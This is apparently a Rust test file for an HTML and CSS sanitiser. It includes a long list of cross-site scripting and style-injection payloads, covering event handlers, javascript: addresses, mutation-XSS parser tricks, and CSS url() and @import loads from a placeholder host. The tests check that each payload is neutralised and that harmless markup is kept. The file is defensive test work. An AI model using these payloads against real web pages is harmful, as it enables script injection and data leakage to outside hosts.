use proptest::prelude::*;

use super::allowed::{Fate, fate_of, kept_attribute, kept_picture};
use super::sheet::{kept_rules, room};
use super::style::kept_declarations;
use super::{EMPTY_PICTURE, GROUND, OWN_STYLES, original};
use crate::dom::{Dom, Tag};

/// What is shown of a piece of markup: the inside of the body.
fn shown(markup: &str) -> String {
    let page = original(markup);
    let (_, body) = page.split_once("<body").unwrap();
    let (_, body) = body.split_once('>').unwrap();
    body.strip_suffix("</body></html>").unwrap().to_owned()
}

/// Parses what was written as a browser would, and says what of it may not be there.
fn harm(page: &str) -> Option<String> {
    let dom = Dom::parse(page, 0);
    for at in 0..dom.nodes().len() as u32 {
        let Some(element) = dom.element(at) else { continue };
        if element.tag == Tag::Style {
            let text: String = dom.subtree(at).filter_map(|node| dom.text(node)).collect();
            let own = !text.contains(['<', '\\']) && kept_rules(&text, &mut room()) == text;
            if !own && text != format!("body{{{GROUND}}}") {
                return Some(format!("style {text}"));
            }
            continue;
        }
        let framing = matches!(element.tag, Tag::Html | Tag::Head | Tag::Body | Tag::Meta);
        let written = matches!(fate_of(element.tag, element.name()), Fate::Keep(_) | Fate::Picture);
        if !framing && !written {
            return Some(format!("element {}", element.name()));
        }
        for (name, value) in element.attributes() {
            let fine = match name {
                "style" => value == EMPTY_PICTURE || kept_declarations(value) == value,
                "src" => element.tag == Tag::Img && kept_picture(value),
                "charset" | "http-equiv" | "content" => element.tag == Tag::Meta,
                name => kept_attribute(element.tag, name, value),
            };
            if !fine {
                return Some(format!("{name}={value} of {}", element.name()));
            }
        }
    }
    let metas = dom.find_all(0, Tag::Meta).count();
    (metas != 2).then(|| format!("{metas} metas"))
}

/// The kinds of attacks that sanitisers are tried with: event handlers, addresses that are scripts, elements that load,
/// markup that parses to something else when it is parsed again, styles that load or cover.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.example/a.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img/src/onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<img srcset='//x.example/a.png 2x' src=data:image/svg+xml,<svg/onload=alert(1)>>",
    "<img src=\"data:image/svg+xml;base64,PHN2Zy8+\">",
    "<img src=\"data:text/html;base64,PHA+\">",
    "<body onload=alert(1) background=//x.example/a.png>",
    "<body/onpageshow=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='\u{1}javascript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=//x.example ping=//y.example target=_top>x</a>",
    "<a title='\" onmouseover=\"alert(1)'>x</a>",
    "<p title=\"x&quot; onclick=&quot;alert(1)\">x</p>",
    "<p title='`onclick=alert(1)'>x</p>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<object data=//x.example/a.swf><param name=movie value=//x.example></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=A.class></applet>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x'/>#x\"/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=text/html><p><style><img src=x onerror=alert(1)></style>",
    "<math href=javascript:alert(1)>x</math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<template><script>alert(1)</script></template>",
    "<div><template shadowrootmode=open><slot onslotchange=alert(1)></slot></template></div>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<option><style></option></select><img src=x onerror=alert(1)></style>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><?import namespace=x implementation=//x.example?>",
    "<base href=//x.example/>",
    "<link rel=stylesheet href=//x.example/a.css>",
    "<link rel=prefetch href=//x.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<style>@import '//x.example/a.css'; p { background: url(//x.example) }</style>",
    "<style>p{color:red}</style><style>p{background:url(//x.example/b.png)}</style>",
    "<style>p{color:red;background:url(//x.example/c.png);margin:0}</style><p>x</p>",
    "<style>@import url(//x.example/d.css);p{color:red}</style><p>x</p>",
    "<style>@font-face{font-family:x;src:url(//x.example/e.woff)}</style><p>x</p>",
    "<style>p{background:\\75 rl(//x.example/f.png)}</style><p>x</p>",
    "<style>p{background:u/**/rl(//x.example/g.png)}</style><p>x</p>",
    "<style>p::before{content:url(//x.example/h.png)}</style><p>x</p>",
    "<style>@media screen{@import '//x.example/i.css';p{background:image-set('//x.example/j.png' 1x)}}</style><p>x</p>",
    "<style>p{--a:url(//x.example/k.png);background:var(--a)}</style><p>x</p>",
    "<style>a[title='</style><script>alert(1)</script>']{color:red}</style>",
    "<style>p{font-family:'</style><img src=x onerror=alert(1)>'}</style>",
    "<style><!-- p{color:red} --></style><style>--></style><img src=x onerror=alert(1)>",
    "<style>p{color:red}/*</style><img src=x onerror=alert(1)>*/",
    "<style>p{color:red;\"}b{background:url(//x.example/l.png)}\"</style>",
    "<style media='screen{}@import \"//x.example/m.css\";'>p{color:red}</style>",
    "<style>@charset 'x';@namespace svg url(//x.example/n);svg|a{color:red}</style>",
    "<style>input[value^='a']{background:url(//x.example/o)}</style>",
    "<style>body{behavior:url(//x.example/p.htc);-moz-binding:url(//x.example/q)}</style>",
    "<style>@media (x){p{color:red}</style><style>}p{background:url(//x.example/r)}</style>",
    "<svg><style>p{color:red}</style></svg>",
    "<p style='background:url(//x.example/a.png)'>x</p>",
    "<p style='background:URL(javascript:alert(1))'>x</p>",
    "<p style=\"background:\\75rl(//x.example)\">x</p>",
    "<p style='background:u/**/rl(//x.example)'>x</p>",
    "<p style='background-image:image-set(\"//x.example/a.png\" 1x)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='-moz-binding:url(//x.example/a.xml#x);behavior:url(a.htc)'>x</p>",
    "<p style='color:red;font-family:\"'>x</p><p title='\";position:fixed'>",
    "<p style='position:fixed;inset:0;z-index:9'>x</p>",
    "<p style='--a:url(//x.example);background:var(--a)'>x</p>",
    "<p style='list-style:square url(//x.example/a.png)'>x</p>",
    "<p style='color:red}</style><script>alert(1)</script>'>x</p>",
    "<video poster=//x.example/a.png><source onerror=alert(1) src=x></video>",
    "<audio src=x onerror=alert(1) autoplay></audio>",
    "<input onfocus=alert(1) autofocus>",
    "<input type=image src=//x.example formaction=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(2)>x</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<keygen autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1) behavior=scroll>x</marquee>",
    "<table background=//x.example/a.png><td background=//x.example>x</td></table>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<p contenteditable onbeforeinput=alert(1) tabindex=1 accesskey=x popover id=x name=y>x</p>",
    "<x-a is=x onclick=alert(1)>x</x-a>",
    "<p/onclick=alert(1)//title=x>x</p>",
    "<p \u{0}onclick=alert(1)>\u{0}x</p>",
    "<a\u{c}href=javascript:alert(1)\u{c}onclick=alert(1)>x",
    "<div dir=ltr lang='en\" onclick=\"alert(1)'>x</div>",
    "<font color='red\" onclick=\"alert(1)' face=url(//x.example)>x</font>",
    "<td colspan='1 onclick=alert(1)'>x",
];

#[test]
fn attacks_come_to_nothing() {
    for attack in ATTACKS {
        for markup in [(*attack).to_owned(), format!("<p>before</p>{attack}<p>behind</p>")] {
            let page = original(&markup);
            assert_eq!(harm(&page), None, "{markup}\n{page}");
            assert!(
                !page.contains("x.example") || page.contains("title=\""),
                "no address but as words: {page}"
            );
        }
    }
}

#[test]
fn what_is_harmless_stays() {
    for (markup, expect) in [
        (
            "<h1 class='a b-c' id=b name=d>T</h1><p class='x{'>a &lt;b&gt; &amp; c",
            "<h1 class=\"a b-c\" id=\"b\">T</h1><p>a &lt;b&gt; &amp; c</p>",
        ),
        (
            "<p style='color: #123; text-align:center'>x</p>",
            "<p style=\"color:#123;text-align:center\">x</p>",
        ),
        (
            "<p style='color:red;background:url(a.png);margin:0'>x</p>",
            "<p style=\"color:red;margin:0\">x</p>",
        ),
        (
            "<table border=1><tr><td colspan=2 bgcolor='#eee'>x</td></tr></table>",
            "<table border=\"1\"><tbody><tr><td bgcolor=\"#eee\" colspan=\"2\">x</td></tr></tbody></table>",
        ),
        (
            "<a href=https://lindby.example/a?b=1&c=2>x</a>",
            "<a title=\"https://lindby.example/a?b=1&amp;c=2\">x</a>",
        ),
        ("<a href=/a title=more>x</a>", "<a title=\"more\">x</a>"),
        ("a<br>b<wbr>c<hr>", "a<br>b<wbr>c<hr>"),
        ("<pre>\n\n a</pre>", "<pre>\n\n a</pre>"),
        (
            "<ol start=3 reversed><li value=7>x</ol>",
            "<ol reversed=\"\" start=\"3\"><li value=\"7\">x</li></ol>",
        ),
        ("<x-card><b>x</b></x-card><form><label>y</label></form>", "<b>x</b>y"),
        ("<noscript><p>x</p></noscript>", "<p>x</p>"),
        ("<ruby>汉<rp>(</rp><rt>han</rt></ruby>", "<ruby>汉<rp>(</rp><rt>han</rt></ruby>"),
        (
            "<img alt=a width=10 src=data:image/png;base64,iVBORw0KGgo=>",
            "<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"a\" width=\"10\">",
        ),
        ("<img src=https://x.example/a.png>", ""),
    ] {
        assert_eq!(shown(markup), expect, "{markup}");
    }
    assert!(shown("<img src=a.png alt='The quay'>").ends_with(">The quay</span>"));
}

#[test]
fn the_page_keeps_its_language_and_ground() {
    let page = original("<html lang=zh-Hans dir=ltr onclick=x><body style='color:green' bgcolor=red>x");
    assert!(
        page.starts_with("<!doctype html><html dir=\"ltr\" lang=\"zh-Hans\"><head><meta charset"),
        "{page}"
    );
    assert!(page.contains("<body style=\"color:green\">x</body>"), "{page}");
    assert!(original("").ends_with("<body></body></html>"));
}

#[test]
fn the_pages_own_style_sheets_stay() {
    for (sheet, expect) in [
        (
            "p { color: red; }\n.a > b, #c:hover { MARGIN:0 auto }",
            "p{color:red}.a > b, #c:hover{margin:0 auto}",
        ),
        ("/* head */ p{/* x */color:red/**/}", "p{color:red}"),
        ("<!-- p{color:red} -->", "p{color:red}"),
        (":root{--ink:#123}p{color:var(--ink, black)}", ":root{--ink:#123}p{color:var(--ink, black)}"),
        (
            "@media (max-width: 40em) and (hover){p{color:red}}",
            "@media (max-width: 40em) and (hover){p{color:red}}",
        ),
        ("@media print{p{position:fixed}}b{color:red}", "b{color:red}"),
        ("@font-face{font-family:x;src:url(a)}@import 'x';@charset 'y';b{color:red}", "b{color:red}"),
        ("@keyframes x{from{color:red}to{color:blue}}b{color:red}", "b{color:red}"),
        ("p{font-family:\\5b8b\\4f53,serif;color:red}", "p{color:red}"),
        ("a[href=\"x;}\"]{color:red}b{color:blue}", "b{color:blue}"),
        ("a[lang='zh']{color:red}", "a[lang='zh']{color:red}"),
        ("p{color:red", "p{color:red}"),
        ("p{opacity:0;height:0;max-height:0;color:red;line-height:2}", "p{color:red;line-height:2}"),
        ("p{}b{position:fixed}}i{color:red}", "i{color:red}"),
        ("a:not([b){color:red}", ""),
    ] {
        let kept = kept_rules(sheet, &mut room());
        assert_eq!(kept, expect, "{sheet}");
        assert_eq!(kept_rules(&kept, &mut room()), kept, "again");
    }
    let page =
        original("<style>.a{color:red}</style><style media=print>.b{color:red}</style><body class='a b'>x");
    let [open, close] = OWN_STYLES;
    let own = format!("{open}.a{{color:red}}@media print{{.b{{color:red}}}}{close}");
    assert!(page.contains(&own) && page.contains(&format!("body{{{GROUND}}}")), "{page}");
    assert!(page.contains("<body class=\"a b\">"));
    let mut little = 20;
    assert_eq!(kept_rules("p{color:red}b{color:blue}", &mut little), "p{color:red}");
    assert_eq!(little, 0);
}

#[test]
fn depth_and_length_are_bounded() {
    let deep = original(&"<div>".repeat(200_000));
    assert_eq!(harm(&deep), None);
    let long = original(&"<p>The ferry sails again.</p>".repeat(800_000));
    assert!(long.len() < 2 * super::MOST_BYTES && long.ends_with("</body></html>"), "{}", long.len());
}

proptest! {
    #[test]
    fn any_tag_soup_is_harmless(parts in prop::collection::vec(prop_oneof![
        prop::sample::select(ATTACKS).prop_map(str::to_owned),
        "[<>/&;\"'= a-z!-]{0,12}",
        prop::sample::select(vec!["<table>", "</table>", "<svg>", "<math>", "</p>", "<style>", "</style>", "<!--", "-->",
            "<a>", "<b>", "<select>", "</select>", "<title>", "</title>", "<td>", "<mtext>", "<desc>"]).prop_map(str::to_owned),
    ], 0..8)) {
        let page = original(&parts.concat());
        prop_assert_eq!(harm(&page), None, "{}", page);
    }
}
